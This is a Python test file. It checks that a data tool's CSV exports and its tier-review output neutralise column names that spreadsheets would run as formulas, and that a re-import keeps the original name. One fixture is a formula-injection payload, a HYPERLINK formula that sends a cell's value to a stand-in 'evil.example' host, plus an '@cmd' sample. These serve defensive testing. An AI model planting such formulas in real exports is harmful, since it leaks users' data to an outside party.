"""A column name a spreadsheet would run as a formula is neutralised on the way out, like a cell: in
`store export` (and so the Data page's zip) and in tier-review's hosts file; re-importing an export
gives the name back as it was stored."""
from __future__ import annotations

import csv

import pandas as pd
from test_metrics_reports_cli import write_studio as write_results
from test_store import STUDIO, sqlite_url, write_studio

from contract.files import neutralise_formulas
from metrics.cli import main as metrics_main
from store import open_seeded

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


def header(path) -> list[str]:
    with open(path, newline="") as handle:
        return next(csv.reader(handle))


def test_a_formula_column_name_is_neutralised_and_a_plain_one_kept():
    frame = pd.DataFrame({FORMULA: ["x"], "@cmd": ["y"], "gmv": [1.0], 3: [2]})
    assert list(neutralise_formulas(frame).columns) == ["'" + FORMULA, "'@cmd", "gmv", 3]
    assert list(frame.columns) == [FORMULA, "@cmd", "gmv", 3]  # the caller's frame is left as it was


def test_store_export_neutralises_a_formula_header_and_imports_it_back(tmp_path):
    targets = pd.DataFrame({"metric": ["gmv"], "target": [5000], FORMULA: ["a"]}).to_csv(index=False)
    files = dict(STUDIO, **{"targets.csv": targets})
    store = open_seeded(sqlite_url(tmp_path), write_studio(tmp_path / "studio", files))
    out = tmp_path / "export"
    store.export_all(out)
    assert header(out / "targets.csv") == ["metric", "target", "'" + FORMULA]
    (tmp_path / "again").mkdir()
    rebuilt = open_seeded(sqlite_url(tmp_path / "again"), out)
    assert list(rebuilt.tables(["targets"]).targets.columns) == ["metric", "target", FORMULA]
    store.engine.dispose()
    rebuilt.engine.dispose()


def test_tier_review_neutralises_a_formula_header(tmp_path):
    studio = write_results(tmp_path / "studio")
    hosts = pd.read_csv(studio / "hosts.csv").assign(**{FORMULA: "x"})
    hosts.to_csv(studio / "hosts.csv", index=False)
    out = tmp_path / "hosts_new.csv"
    assert metrics_main(["tier-review", "--data", str(studio), "--weeks", "2", "--out", str(out)]) == 0
    assert header(out)[-1] == "'" + FORMULA
